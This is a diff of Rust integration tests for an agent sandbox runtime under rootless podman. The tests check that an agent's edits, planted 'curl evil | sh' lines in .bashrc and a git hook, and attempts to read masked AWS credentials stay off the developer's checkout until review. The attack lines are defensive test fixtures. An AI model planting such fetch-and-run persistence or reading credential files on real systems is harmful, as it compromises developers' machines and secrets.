@@ -66,8 +66,17 @@ struct Checkout {
 }
 
 fn checkout() -> anyhow::Result<Checkout> {
+    checkout_owned_by(DEV, tempfile::tempdir()?, &[])
+}
+
+/// The same checkout owned by `owner` (uid and gid) in `dir`, with `files` (path, text)
+/// committed too.
+fn checkout_owned_by(
+    owner: u32,
+    dir: tempfile::TempDir,
+    files: &[(&str, &str)],
+) -> anyhow::Result<Checkout> {
     harness::require_file(HOST_GIT)?;
-    let dir = tempfile::tempdir()?;
     fs::set_permissions(
         dir.path(),
         std::os::unix::fs::PermissionsExt::from_mode(0o755),
@@ -79,6 +88,9 @@ fn checkout() -> anyhow::Result<Checkout> {
         "def add(a, b):\n    return a + b\n",
     )?;
     fs::write(repo.join("README"), "calc\n")?;
+    for (path, text) in files {
+        fs::write(repo.join(path), text)?;
+    }
     host_git(&repo, &["init", "-q"])?;
     host_git(&repo, &["add", "-A"])?;
     host_git(
@@ -95,7 +107,7 @@ fn checkout() -> anyhow::Result<Checkout> {
     )?;
     harness::run_ok(
         Command::new("chown")
-            .args(["-R", &format!("{DEV}:{DEV}")])
+            .args(["-R", &format!("{owner}:{owner}")])
             .arg(&repo),
         DEFAULT_TIMEOUT,
     )?;
@@ -131,6 +143,35 @@ const AGENT_SCRIPT: &str = "set -e; cd /workspace; \
 
 /// The sandbox's changes as `diff` shows them, after its container is gone.
 fn expect_reviewable(key: &str, out: &Output) -> anyhow::Result<()> {
+    expect_reviewable_by(User::Root, key, out)
+}
+
+/// `agent-sandbox ARGS...` run by `user` on the host (the rootless user outside podman's
+/// namespace: no `podman unshare`); any exit code.
+fn runtime_as(user: User, args: &[&str]) -> anyhow::Result<Output> {
+    match user {
+        User::Root => harness::runtime(args),
+        User::Rootless => {
+            harness::require_file(harness::runtime_bin())?;
+            let mut cmd = user.command(&harness::runtime_bin().display().to_string());
+            harness::run(cmd.args(args), DEFAULT_TIMEOUT)
+        }
+    }
+}
+
+/// [`runtime_as`], requiring exit 0.
+fn runtime_as_ok(user: User, args: &[&str]) -> anyhow::Result<Output> {
+    let out = runtime_as(user, args)?;
+    ensure!(
+        out.success(),
+        "agent-sandbox {args:?} as {user} failed\n{out}"
+    );
+    Ok(out)
+}
+
+/// [`expect_reviewable`] with the review commands run by `user`.
+fn expect_reviewable_by(user: User, key: &str, out: &Output) -> anyhow::Result<()> {
+    let runtime = |args: &[&str]| runtime_as_ok(user, args);
     ensure!(
         out.stdout.contains("COMMITTED ") && out.stdout.trim_end().ends_with('2'),
         "git commit did not work inside the sandbox\n{out}"
@@ -143,7 +184,7 @@ fn expect_reviewable(key: &str, out: &Output) -> anyhow::Result<()> {
         !out.stderr.contains("dubious ownership") && !out.stderr.contains("Permission denied"),
         "{out}"
     );
-    let diff = harness::runtime_ok(&["diff", key])?;
+    let diff = runtime(&["diff", key])?;
     for line in [
         "M /src/calc.py (file)",
         "A /src/new/mod.py (file)",
@@ -164,9 +205,9 @@ fn expect_reviewable(key: &str, out: &Output) -> anyhow::Result<()> {
             && !diff.stdout.contains(" /.git/"),
         "diff of {key} shows no moved branch\n{diff}"
     );
-    let export = tempfile::tempdir()?;
+    let export = harness::temp_dir_for(user)?;
     let to = export.path().join("out");
-    harness::runtime_ok(&["export", "--to-dir", &to.display().to_string(), key])?;
+    runtime(&["export", "--to-dir", &to.display().to_string(), key])?;
     let calc = fs::read_to_string(to.join("src/calc.py"))?;
     ensure!(calc.contains("def sub"), "exported calc.py: {calc:?}");
     ensure!(to.join("src/new/mod.py").exists());
@@ -184,7 +225,7 @@ fn expect_reviewable(key: &str, out: &Output) -> anyhow::Result<()> {
         "the agent's commit object {} was not exported",
         object.display()
     );
-    let list = harness::runtime_ok(&["changes"])?;
+    let list = runtime(&["changes"])?;
     ensure!(
         list.stdout.lines().any(|l| l.contains(key)),
         "changes does not list {key}\n{list}"
@@ -510,45 +551,202 @@ fn protected_names_already_in_subdirectories_are_read_only_inside_but_runc_write
     Ok(())
 }
 
+/// The agent's session plus two planted attacks on the developer: a line in `.bashrc` and a
+/// git hook, each printing a marker when the write went through.
+const ROOTLESS_SCRIPT: &str = "(echo 'curl evil | sh' >> /workspace/.bashrc) 2>/dev/null && echo BASHRC-WRITTEN; \
+    (echo 'curl evil | sh' > /workspace/.git/hooks/post-checkout) 2>/dev/null && echo HOOK-WRITTEN; ";
+
+/// The rootless test user's own checkout (uid 1500, 0644/0755, a `.bashrc`), as a
+/// developer's desktop has it: no chmod, no `safe.directory`.
+fn user_checkout() -> anyhow::Result<Checkout> {
+    checkout_owned_by(
+        harness::TEST_UID,
+        harness::temp_dir_for(User::Rootless)?,
+        &[(".bashrc", "# the developer's\n")],
+    )
+}
+
+/// `podman unshare agent-sandbox ARGS...` as the rootless user (inside podman's namespace).
+fn unshare(args: &[&str]) -> anyhow::Result<Output> {
+    let mut cmd = User::Rootless.command("podman");
+    cmd.arg("unshare").arg(harness::runtime_bin()).args(args);
+    harness::run(&mut cmd, DEFAULT_TIMEOUT)
+}
+
+/// Rootless podman on the user's own checkout, as a desktop agent runs its tools: execs into
+/// one long-lived sandbox edit, create, delete and `git commit` with no chmod and no
+/// `safe.directory`; the planted `.bashrc` line and git hook are refused; the host checkout is
+/// unchanged until the user (no `podman unshare`) reviews and promotes. Under runc the same
+/// session writes the host checkout directly, attacks included.
 #[test]
-fn rootless_podman_changes_outlive_run_rm_and_are_reviewed_under_podman_unshare()
+fn rootless_podman_agent_edits_the_users_checkout_kept_off_the_host_until_promote_unlike_runc()
 -> anyhow::Result<()> {
     harness::require_podman_image(User::Rootless, TOOLS_IMAGE)?;
-    let dir = harness::temp_dir_for(User::Rootless)?;
-    // Rootless has no idmapped workspace (docs/workspace.md): the directory is open to all.
-    fs::set_permissions(
-        dir.path(),
-        std::os::unix::fs::PermissionsExt::from_mode(0o777),
+    let git = format!("{HOST_GIT}:/usr/bin/git:ro");
+    let script = format!("{ROOTLESS_SCRIPT}{AGENT_SCRIPT}");
+
+    // The reference: rootless runc, whose root is the user too, writes the host checkout.
+    let naive = user_checkout()?;
+    let runc = Podman::new(User::Rootless, Runtime::Runc);
+    let (_gr, base) = run_in_workspace(
+        runc,
+        &[],
+        &["--rm", "-v", &git],
+        &name("rl-runc"),
+        &naive.repo,
+        &script,
     )?;
-    fs::write(dir.path().join("README"), "calc\n")?;
+    ensure!(base.success(), "runc baseline\n{base}");
+    ensure!(
+        base.stdout.contains("BASHRC-WRITTEN") && base.stdout.contains("HOOK-WRITTEN"),
+        "runc baseline: the planted writes should go through\n{base}"
+    );
+    ensure!(
+        fs::read_to_string(naive.repo.join(".bashrc"))?.contains("curl evil")
+            && naive.repo.join(".git/hooks/post-checkout").exists()
+            && !naive.repo.join("README").exists()
+            && fs::read_to_string(naive.repo.join("src/calc.py"))?.contains("def sub"),
+        "runc baseline: the session should have reached the host checkout"
+    );
+
+    let co = user_checkout()?;
+    // The user's AWS keys beside the code (0600, ignored by git): the sandbox's root owns
+    // them, so only the mask keeps them out (docs/workspace.md#secret-names).
+    let aws = co.repo.join(".aws/credentials");
+    let secret = format!("aws_secret_access_key = rl-secret-{}\n", std::process::id());
+    fs::create_dir_all(co.repo.join(".aws"))?;
+    fs::write(&aws, &secret)?;
+    fs::set_permissions(&aws, std::os::unix::fs::PermissionsExt::from_mode(0o600))?;
+    fs::write(co.repo.join(".git/info/exclude"), ".aws/\n")?;
+    harness::run_ok(
+        Command::new("chown")
+            .args(["-R", &format!("{0}:{0}", harness::TEST_UID)])
+            .arg(co.repo.join(".aws"))
+            .arg(co.repo.join(".git/info")),
+        DEFAULT_TIMEOUT,
+    )?;
+    let before = host_state(&co.repo)?;
     let n = name("rootless");
     let p = Podman::new(User::Rootless, Runtime::AgentSandbox);
-    let (_g, out) = run_in_workspace(
-        p,
-        &[],
-        &["--rm"],
+    let _g = ContainerGuard::new(p, &n);
+    let volume = format!("{}:/workspace", co.repo.display());
+    let run = p.run(&[
+        "run",
+        "-d",
+        "--name",
         &n,
-        dir.path(),
-        "echo new > /workspace/agent.txt",
-    )?;
+        "-v",
+        &volume,
+        "-v",
+        &git,
+        TOOLS_IMAGE,
+        "sleep",
+        "600",
+    ])?;
+    ensure!(run.success(), "{run}");
+    let id = run
+        .stdout
+        .trim()
+        .lines()
+        .last()
+        .unwrap_or_default()
+        .to_owned();
+    let out = p.run(&["exec", &n, "sh", "-c", &script])?;
     ensure!(out.success(), "{out}");
     ensure!(
-        !dir.path().join("agent.txt").exists(),
-        "the write reached the host"
+        !out.stdout.contains("BASHRC-WRITTEN") && !out.stdout.contains("HOOK-WRITTEN"),
+        "a protected name was written inside the sandbox\n{out}"
     );
-    let unshare = |args: &[&str]| {
-        let mut cmd = User::Rootless.command("podman");
-        cmd.arg("unshare").arg(harness::runtime_bin()).args(args);
-        harness::run(&mut cmd, DEFAULT_TIMEOUT)
-    };
-    let diff = unshare(&["diff", &n])?;
+    let peek = p.run(&[
+        "exec",
+        &n,
+        "sh",
+        "-c",
+        "ls -a /workspace/.aws; cat /workspace/.aws/credentials; echo PEEKED",
+    ])?;
     ensure!(
-        diff.success() && diff.stdout.lines().any(|l| l == "A /agent.txt (file)"),
-        "{diff}"
+        peek.stdout.contains("PEEKED") && !peek.stdout.contains("rl-secret-"),
+        "the sandbox read the user's AWS keys\n{peek}"
     );
-    let discard = unshare(&["changes", "discard", &n])?;
-    ensure!(discard.success(), "{discard}");
-    let again = unshare(&["diff", &n])?;
+    // What differs from rootful, as `layers` reports it.
+    let layers = unshare(&["layers", &id])?;
+    ensure!(layers.success(), "{layers}");
+    let report: serde_json::Value = serde_json::from_str(&layers.stdout)
+        .with_context(|| format!("layers is not JSON\n{layers}"))?;
+    let root_is = report["userns"]["root_is"].as_str().unwrap_or_default();
+    ensure!(
+        root_is == format!("the invoking user (host uid {})", harness::TEST_UID)
+            && report["userns"]["host_root_mapped"] == false
+            && report["userns"]["rootless"]
+                .as_array()
+                .is_some_and(|a| !a.is_empty()),
+        "layers: {}",
+        report["userns"]
+    );
+    ensure!(
+        report["workspace_secrets"]["masked"]
+            .as_array()
+            .is_some_and(|a| a.iter().any(|p| p == "/workspace/.aws")),
+        "layers does not list the masked .aws/: {}",
+        report["workspace_secrets"]
+    );
+    ensure!(
+        host_state(&co.repo)? == before,
+        "the host checkout changed while the sandbox ran"
+    );
+    p.run_ok(&["rm", "-f", "-t", "0", &n])?;
+    ensure!(host_state(&co.repo)? == before, "the host checkout changed");
+    ensure!(
+        fs::read_to_string(co.repo.join(".bashrc"))? == "# the developer's\n"
+            && !co.repo.join(".git/hooks/post-checkout").exists(),
+        "a planted write reached the host"
+    );
+    // Reviewed and promoted by the user, outside podman's namespace.
+    expect_reviewable_by(User::Rootless, &n, &out)?;
+    let repo = co.repo.display().to_string();
+    let promoted = runtime_as_ok(User::Rootless, &["promote", &n, "--to", &repo, "--advance"])?;
+    ensure!(
+        promoted.stdout.contains("promoted and discarded"),
+        "{promoted}"
+    );
+    let log = host_git(&co.repo, &["log", "--format=%s"])?;
+    ensure!(log == "agent: sub\ninit\n", "host git log: {log:?}");
+    let calc = co.repo.join("src/calc.py");
+    ensure!(
+        fs::read_to_string(&calc)?.contains("def sub") && co.repo.join("src/new/mod.py").exists()
+    );
+    ensure!(fs::metadata(&calc)?.uid() == harness::TEST_UID && !co.repo.join("README").exists());
+    ensure!(!co.repo.join(".git/hooks/post-checkout").exists());
+    // The mask never came back as a change: the keys are as the user left them.
+    ensure!(
+        fs::read_to_string(&aws)? == secret,
+        "promote changed the user's .aws/credentials"
+    );
+    Ok(())
+}
+
+/// A rootless sandbox that wrote nothing is still found after `podman run --rm`: `diff` says
+/// "no changes" (inside podman's namespace and outside it), not that it does not exist; a
+/// discarded one then does not exist.
+#[test]
+fn rootless_podman_sandbox_that_wrote_nothing_reviews_as_no_changes() -> anyhow::Result<()> {
+    harness::require_podman_image(User::Rootless, TOOLS_IMAGE)?;
+    let co = user_checkout()?;
+    let n = name("rl-empty");
+    let p = Podman::new(User::Rootless, Runtime::AgentSandbox);
+    let (_g, out) = run_in_workspace(p, &[], &["--rm"], &n, &co.repo, "cat /workspace/README")?;
+    ensure!(out.success(), "{out}");
+    for diff in [
+        unshare(&["diff", &n])?,
+        runtime_as(User::Rootless, &["diff", &n])?,
+    ] {
+        ensure!(
+            diff.success() && diff.stdout.trim() == "# no changes",
+            "{diff}"
+        );
+    }
+    runtime_as_ok(User::Rootless, &["changes", "discard", &n])?;
+    let again = runtime_as(User::Rootless, &["diff", &n])?;
     ensure!(again.stderr.contains("does not exist"), "{again}");
     Ok(())
 }
